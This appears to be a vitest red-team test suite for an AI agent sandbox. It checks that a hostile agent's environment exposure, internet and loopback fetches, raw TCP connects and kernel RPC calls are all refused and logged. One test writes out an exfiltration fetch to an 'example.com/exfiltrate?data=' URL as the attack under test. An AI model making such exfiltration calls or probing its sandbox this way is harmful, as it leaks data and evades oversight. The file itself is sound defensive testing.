import { attack } from "./support/redteam.ts";
import { describe, expect, it } from "vitest";
import { useSystem } from "./support/system.ts";

const t = useSystem();

describe("an agent can reach nothing but the proxy", () => {
  attack({ surface: "cell", class: "rpc-surface", tries: "reach D1, the router, another agent or a secret through env", evidence: "env holds exactly PROXY" }, async () => {
    const seen = await t.hostile({ attack: "env" });
    expect(seen.keys).toEqual(["PROXY"]);
  });

  attack({ surface: "cell", class: "egress", tries: "fetch() a host on the internet", evidence: "denied by the egress guard, egress.denied row" }, async () => {
    const before = (await t.audit()).length;
    const res = await t.hostile({ attack: "fetch", url: "https://example.com/exfiltrate?data=[NAME_1]" });
    expect(res).toMatchObject({ ok: true, value: { status: 403 } });
    expect(JSON.parse(res.value.body)).toMatchObject({ error: "egress_denied" });
    const rows = (await t.audit()).slice(before);
    expect(rows).toContainEqual(
      expect.objectContaining({ actor: "agent:hostile-agent", event: "egress.denied", decision: "refused", reason: "egress_denied", detail: { method: "GET", host: { chars: 11, sha256: expect.any(String) }, scheme: "https:" } }),
    );
    // Neither the query string nor the host the agent chose is copied into the log (a digest of the host is).
    expect(JSON.stringify(rows)).not.toContain("exfiltrate");
    expect(JSON.stringify(rows)).not.toContain("example.com");
  });

  attack({ surface: "cell", class: "egress", tries: "fetch() the router on loopback", evidence: "denied, no router response" }, async () => {
    const res = await t.hostile({ attack: "fetch", url: `${t.sys.url.href}healthz` });
    expect(res.value.status).toBe(403);
    expect(JSON.parse(res.value.body).error).toBe("egress_denied");
  });

  attack({ surface: "cell", class: "egress", tries: "open a raw TCP socket with connect()", evidence: "closed, egress.denied rows" }, async () => {
    const before = (await t.audit()).length;
    for (const target of [`127.0.0.1:${t.sys.url.port}`, "example.com:80"]) {
      const res = await t.hostile({ attack: "connect", url: target });
      // Either the runtime refuses outright, or the guard closes the socket before a byte is read.
      if (res.ok) expect(res.value.read ?? "").toBe("");
      else expect(res.thrown).toMatch(/cannot connect|closed|reset|connection lost/i);
    }
    const denied = (await t.audit()).slice(before).filter((e) => e.event === "egress.denied");
    expect(denied).toContainEqual(expect.objectContaining({ actor: "agent:hostile-agent", detail: expect.objectContaining({ method: "CONNECT" }) }));
  });

  attack({ surface: "cell", class: "rpc-surface", tries: "call router-only kernel methods on PROXY", evidence: "methods absent on the agent entrypoint" }, async () => {
    const res = await t.hostile({ attack: "kernel" });
    expect(res.ok).toBe(false);
    expect(res.thrown).toMatch(/closeTask/);
  });

  it("can reach the proxy, which answers every unauthenticated call with a refusal", async () => {
    const res = await t.hostile({ attack: "call", op: "whoami" });
    expect(res).toMatchObject({ ok: false, error: "key_missing" });
  });
});
